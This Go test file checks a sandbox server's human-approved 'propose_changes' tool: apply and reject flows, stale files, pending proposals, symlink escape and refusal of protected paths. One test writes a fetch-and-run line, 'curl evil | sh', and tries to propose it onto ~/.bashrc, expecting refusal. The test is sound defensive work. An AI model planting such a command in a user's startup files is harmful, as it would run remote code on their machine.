package mcpserver_test

import (
	"context"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/mcp-sandbox/mcp-sandbox/sandbox"
	"github.com/mcp-sandbox/mcp-sandbox/sandbox/backend/fake"
	"github.com/mcp-sandbox/mcp-sandbox/sandbox/config"
	"github.com/mcp-sandbox/mcp-sandbox/sandbox/hostcopy"
	"github.com/mcp-sandbox/mcp-sandbox/sandbox/mcpserver"
	"github.com/mcp-sandbox/mcp-sandbox/sandbox/proposal"
	"github.com/mcp-sandbox/mcp-sandbox/sandbox/state"
)

// proposeEnv is a server on the fake backend whose client plays the
// person through elicitation (handler; nil: no elicitation capability),
// with HOME a fresh folder that is the read (and so the apply) root.
type proposeEnv struct {
	home string
	st   *state.Store
	cs   *mcp.ClientSession
	// asked counts elicitations; msg and schema are the last one's.
	asked  atomic.Int32
	msg    atomic.Value // string
	schema atomic.Value // string
}

func startPropose(t *testing.T, handler func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error)) *proposeEnv {
	t.Helper()
	home := t.TempDir()
	t.Setenv("HOME", home)
	cfg := config.Default()
	cfg.Images.Python, cfg.Images.JavaScript, cfg.Images.Bash = fake.DefaultImage, fake.DefaultImage, fake.DefaultImage
	cfg.Images.Pull, cfg.Pool.Size = "never", 0
	cfg.Files.ReadRoots, cfg.Files.WriteRoot = []string{"~"}, filepath.Join(home, "out")
	st, err := state.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	env := &proposeEnv{home: home, st: st}
	eng := sandbox.NewEngine(sandbox.Options{Backend: fake.New(), Config: config.Static(cfg), State: st, OwnerID: "propose-owner"})
	srv := mcpserver.New(mcpserver.Options{Engine: eng, State: st})
	ctx, cancel := context.WithCancel(context.Background())
	toServer, fromClient := io.Pipe()
	toClient, fromServer := io.Pipe()
	served := make(chan struct{})
	go func() {
		defer close(served)
		_ = srv.ServeStdio(ctx, toServer, fromServer)
		fromServer.Close()
	}()
	opts := &mcp.ClientOptions{}
	if handler != nil {
		opts.ElicitationHandler = func(ctx context.Context, req *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			env.asked.Add(1)
			env.msg.Store(req.Params.Message)
			b, _ := json.Marshal(req.Params.RequestedSchema)
			env.schema.Store(string(b))
			return handler(ctx, req)
		}
	}
	c := mcp.NewClient(&mcp.Implementation{Name: "propose-test", Version: "1"}, opts)
	cs, err := c.Connect(testContext(t, 30*time.Second), &mcp.IOTransport{Reader: toClient, Writer: fromClient},
		&mcp.ClientSessionOptions{ProtocolVersion: "2025-11-25"})
	if err != nil {
		t.Fatalf("connect: %v", err)
	}
	env.cs = cs
	t.Cleanup(func() {
		cs.Close()
		cancel()
		fromClient.Close()
		<-served
		eng.Close(context.Background())
	})
	return env
}

func (e *proposeEnv) call(t *testing.T, name string, args map[string]any) *mcp.CallToolResult {
	t.Helper()
	res, err := e.cs.CallTool(testContext(t, 30*time.Second), &mcp.CallToolParams{Name: name, Arguments: args})
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return res
}

// project writes ~/proj (a.py, b.py), copies it into a new sandbox,
// changes a.py and adds c.py there, and returns the sandbox's id.
func (e *proposeEnv) project(t *testing.T) string {
	t.Helper()
	writeFile(t, filepath.Join(e.home, "proj", "a.py"), "x = 1\n")
	writeFile(t, filepath.Join(e.home, "proj", "b.py"), "untouched\n")
	res := e.call(t, "sandbox_create", map[string]any{})
	var out struct {
		SandboxID string `json:"sandbox_id"`
	}
	structured(t, res, &out)
	for _, c := range []struct {
		tool string
		args map[string]any
	}{
		{"copy_in", map[string]any{"sandbox_id": out.SandboxID, "host_path": "~/proj"}},
		{"write_file", map[string]any{"sandbox_id": out.SandboxID, "path": "proj/a.py", "content": "x = 2\n"}},
		{"write_file", map[string]any{"sandbox_id": out.SandboxID, "path": "proj/c.py", "content": "new\n"}},
	} {
		if r := e.call(t, c.tool, c.args); r.IsError {
			t.Fatalf("%s: %s", c.tool, text(r))
		}
	}
	return out.SandboxID
}

func writeFile(t *testing.T, p, s string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
		t.Fatal(err)
	}
}

func readHost(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return string(b)
}

type proposeOut struct {
	Status     string                `json:"status"`
	ProposalID string                `json:"proposal_id"`
	Files      []proposal.FileResult `json:"files"`
	Backups    []string              `json:"backups"`
}

func (e *proposeEnv) propose(t *testing.T, id string) (proposeOut, *mcp.CallToolResult) {
	t.Helper()
	res := e.call(t, "propose_changes", map[string]any{"sandbox_id": id, "path": "proj", "host_path": "~/proj", "summary": "fix the sum"})
	if res.IsError {
		t.Fatalf("propose_changes: %s", text(res))
	}
	var out proposeOut
	structured(t, res, &out)
	return out, res
}

// TestProposeApply: the person's Apply (elicitation) writes the changed
// and the added file, leaves the other untouched, backs up the one it
// replaced; the question shows the summary, the files with their counts
// and the diff, and offers Apply and Reject only; the audit log has the
// outcome.
func TestProposeApply(t *testing.T) {
	e := startPropose(t, reply("accept", map[string]any{"answer": "apply"}))
	id := e.project(t)
	out, res := e.propose(t, id)
	proj := filepath.Join(e.home, "proj")
	if out.Status != proposal.StatusApplied || len(out.Files) != 2 || len(out.Backups) != 1 {
		t.Fatalf("result %+v (%s), want applied with 2 files and 1 backup", out, text(res))
	}
	if got := readHost(t, filepath.Join(proj, "a.py")) + readHost(t, filepath.Join(proj, "c.py")) + readHost(t, filepath.Join(proj, "b.py")); got != "x = 2\nnew\nuntouched\n" {
		t.Errorf("host files %q", got)
	}
	if got := readHost(t, out.Backups[0]); got != "x = 1\n" {
		t.Errorf("backup %s holds %q", out.Backups[0], got)
	}
	msg, _ := e.msg.Load().(string)
	for _, want := range []string{"fix the sum", "modified", "+1 −1", "added", "-x = 1", "+x = 2"} {
		if !strings.Contains(msg, want) {
			t.Errorf("question %q lacks %q", msg, want)
		}
	}
	schema, _ := e.schema.Load().(string)
	if !strings.Contains(schema, `"Apply"`) || !strings.Contains(schema, `"Reject"`) || strings.Contains(schema, "lways") {
		t.Errorf("form %s: want Apply and Reject only", schema)
	}
	entries, err := e.st.ReadAudit(50)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, a := range entries {
		found = found || a.Tool == "propose_changes" && strings.Contains(a.Summary, "applied, 2 files")
	}
	if !found {
		t.Errorf("no audit entry of the applied proposal in %+v", entries)
	}
	if len(proposal.List(e.st, time.Now())) != 0 {
		t.Error("an answered proposal still waits in the state directory")
	}
}

// TestProposeDeclined: Reject, a decline and a cancel change nothing.
func TestProposeDeclined(t *testing.T) {
	for _, c := range []struct {
		name   string
		action string
		answer map[string]any
	}{
		{"reject", "accept", map[string]any{"answer": "reject"}},
		{"decline", "decline", nil},
		{"cancel", "cancel", nil},
		{"apply smuggled as another value", "accept", map[string]any{"answer": "Apply"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			e := startPropose(t, reply(c.action, c.answer))
			id := e.project(t)
			out, _ := e.propose(t, id)
			if out.Status != proposal.StatusDeclined {
				t.Errorf("status %q, want declined", out.Status)
			}
			if got := readHost(t, filepath.Join(e.home, "proj", "a.py")); got != "x = 1\n" {
				t.Errorf("a.py %q after a no", got)
			}
			if _, err := os.Lstat(filepath.Join(e.home, "proj", "c.py")); err == nil {
				t.Error("c.py made after a no")
			}
		})
	}
}

// TestProposeStale: a host file changed between the proposal and the
// person's yes: nothing is written.
func TestProposeStale(t *testing.T) {
	var home string
	e := startPropose(t, func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
		writeFile(t, filepath.Join(home, "proj", "b.py"), "edited by the person meanwhile\n")
		writeFile(t, filepath.Join(home, "proj", "a.py"), "x = 3\n")
		return &mcp.ElicitResult{Action: "accept", Content: map[string]any{"answer": "apply"}}, nil
	})
	home = e.home
	id := e.project(t)
	out, _ := e.propose(t, id)
	if out.Status != proposal.StatusStale {
		t.Errorf("status %q, want stale", out.Status)
	}
	if got := readHost(t, filepath.Join(e.home, "proj", "a.py")); got != "x = 3\n" {
		t.Errorf("a.py %q, want the person's edit", got)
	}
	if _, err := os.Lstat(filepath.Join(e.home, "proj", "c.py")); err == nil {
		t.Error("c.py made by a stale proposal")
	}
}

// TestProposeRefusedBeforeAsking: a proposal onto ~/.bashrc (write_deny)
// or outside the apply roots is an error, and nobody is asked.
func TestProposeRefusedBeforeAsking(t *testing.T) {
	e := startPropose(t, reply("accept", map[string]any{"answer": "apply"}))
	writeFile(t, filepath.Join(e.home, ".bashrc"), "# mine\n")
	id := e.project(t)
	e.call(t, "write_file", map[string]any{"sandbox_id": id, "path": "rc", "content": "curl evil | sh\n"})
	for _, host := range []string{"~/.bashrc", "/etc/hostname"} {
		res := e.call(t, "propose_changes", map[string]any{"sandbox_id": id, "path": "rc", "host_path": host})
		if !res.IsError || !strings.Contains(text(res), "files.") {
			t.Errorf("%s: %q (isError %v), want a refusal naming the setting", host, text(res), res.IsError)
		}
	}
	if n := e.asked.Load(); n != 0 {
		t.Errorf("the person was asked %d times about refused proposals", n)
	}
	if got := readHost(t, filepath.Join(e.home, ".bashrc")); got != "# mine\n" {
		t.Errorf(".bashrc %q", got)
	}
}

// TestProposeHostSymlink: a symlink in host_path that leads outside is
// never followed: what the sandbox has below it is not written there.
func TestProposeHostSymlink(t *testing.T) {
	e := startPropose(t, reply("accept", map[string]any{"answer": "apply"}))
	id := e.project(t)
	outside := t.TempDir()
	if err := os.Symlink(outside, filepath.Join(e.home, "proj", "link")); err != nil {
		t.Fatal(err)
	}
	e.call(t, "write_file", map[string]any{"sandbox_id": id, "path": "proj/link/x.py", "content": "planted\n"})
	out, _ := e.propose(t, id)
	if out.Status != proposal.StatusApplied {
		t.Errorf("status %q", out.Status)
	}
	if ents, _ := os.ReadDir(outside); len(ents) != 0 {
		t.Errorf("written through the host's symlink: %v", ents)
	}
	for _, f := range out.Files {
		if strings.Contains(f.HostPath, "/proj/link/") {
			t.Errorf("proposed through the link: %+v", f)
		}
	}
}

// TestProposePending: a client that cannot be asked, and no tray: the
// call returns pending with the id, the proposal waits in the state
// directory for the window to apply, and sandbox_list shows it.
func TestProposePending(t *testing.T) {
	e := startPropose(t, nil)
	id := e.project(t)
	out, res := e.propose(t, id)
	if out.Status != proposal.StatusPending || out.ProposalID == "" || !strings.Contains(text(res), "window") {
		t.Fatalf("result %+v (%s), want pending", out, text(res))
	}
	if got := readHost(t, filepath.Join(e.home, "proj", "a.py")); got != "x = 1\n" {
		t.Errorf("a.py %q while pending", got)
	}
	list := proposal.List(e.st, time.Now())
	if len(list) != 1 || list[0].ID != out.ProposalID || list[0].AppliedBy != proposal.ByWindow {
		t.Fatalf("waiting proposals %+v", list)
	}
	lres := e.call(t, "sandbox_list", map[string]any{})
	if !strings.Contains(text(lres), out.ProposalID) {
		t.Errorf("sandbox_list text lacks the proposal: %s", text(lres))
	}
	// What the window does on Apply.
	p, err := proposal.Load(e.st, out.ProposalID)
	if err != nil {
		t.Fatal(err)
	}
	r, err := proposal.Apply(context.Background(), p, proposal.ApplyOptions{Fence: hostcopy.Fence(config.Default()), ApplyRoots: []string{"~"}, BackupDir: proposal.BackupDir(e.st.Dir())})
	if err != nil || r.Status != proposal.StatusApplied {
		t.Fatalf("apply %+v: %v", r, err)
	}
	if got := readHost(t, filepath.Join(e.home, "proj", "c.py")); got != "new\n" {
		t.Errorf("c.py %q after the window's Apply", got)
	}
}

// TestProposeThroughTray: a client that cannot be asked, and a tray that
// listens: the proposal waits in the state directory while the call
// waits; the person's Apply in the window (a recorded decision) lets the
// server apply it, and their Reject declines it.
func TestProposeThroughTray(t *testing.T) {
	for _, c := range []struct {
		choice, want, a string
	}{
		{state.ChoiceAllow, proposal.StatusApplied, "x = 2\n"},
		{state.ChoiceDeny, proposal.StatusDeclined, "x = 1\n"},
	} {
		t.Run(c.want, func(t *testing.T) {
			e := startPropose(t, nil)
			l, err := e.st.ListenAsks()
			if err != nil {
				t.Fatal(err)
			}
			defer l.Close()
			id := e.project(t)
			done := make(chan struct{})
			go func() {
				defer close(done)
				for range 400 {
					if list := proposal.List(e.st, time.Now()); len(list) == 1 {
						if list[0].AppliedBy != proposal.ByServer {
							t.Errorf("applied by %q, want the waiting server", list[0].AppliedBy)
						}
						if err := proposal.Decide(e.st, list[0].ID, c.choice, time.Now()); err != nil {
							t.Error(err)
						}
						return
					}
					time.Sleep(25 * time.Millisecond)
				}
				t.Error("no proposal waited for the tray")
			}()
			out, _ := e.propose(t, id)
			<-done
			if out.Status != c.want {
				t.Errorf("status %q, want %q", out.Status, c.want)
			}
			if got := readHost(t, filepath.Join(e.home, "proj", "a.py")); got != c.a {
				t.Errorf("a.py %q", got)
			}
			if n := len(proposal.List(e.st, time.Now())); n != 0 {
				t.Errorf("%d proposals still wait after the answer", n)
			}
		})
	}
}
